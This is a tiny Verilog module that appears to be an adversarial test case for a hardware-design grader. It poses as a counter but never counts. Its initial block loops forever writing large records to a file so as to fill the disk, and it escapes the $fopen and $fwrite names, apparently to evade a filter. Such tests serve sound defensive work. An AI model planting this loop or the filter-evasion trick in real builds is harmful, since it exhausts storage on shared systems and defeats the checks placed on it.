// golden: counter
// tries: fills the disk by an escaped $fwrite
module counter(input clk, input rst, input en, output reg [7:0] count);
  integer f;
  initial begin
    f = \$fopen ("big", "w");
    while (1) \$fwrite (f, "%0100000d", 0);
  end
  always @(posedge clk) count <= 8'd0;
endmodule
